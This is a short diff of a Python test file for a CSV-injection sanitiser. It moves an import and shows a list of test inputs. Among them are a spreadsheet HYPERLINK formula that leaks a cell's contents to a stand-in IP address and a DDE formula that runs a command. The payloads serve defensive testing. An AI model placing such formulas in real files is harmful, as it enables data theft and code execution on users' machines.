@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from kg.csvsafe import protect
+from kg.sparql.csvsafe import protect
 from tests.conftest import DATA, ROOT, run_kg
 
 VALUES = ['=HYPERLINK("http://203.0.113.1/?leak="&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0",
